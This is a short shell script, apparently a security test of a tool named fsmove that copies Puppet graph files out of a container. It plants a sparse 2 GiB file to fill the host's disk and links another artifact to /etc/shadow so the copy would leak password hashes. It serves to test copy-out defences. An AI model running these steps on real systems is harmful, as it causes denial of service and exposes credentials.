#!/bin/sh
# Fill the host's disk through what fsmove copies out (Puppet's graphs: a
# sparse 2 GiB resources.dot), and make another artifact a link to a secret
# of the container.
g=/fsmove/graphs
truncate -s 2G $g/resources.dot && echo "RESULT copyout-huge: made $g/resources.dot"
ln -sf /etc/shadow $g/expanded_relationships.dot && echo "RESULT copyout-link: made $g/expanded_relationships.dot -> /etc/shadow"
exit 0
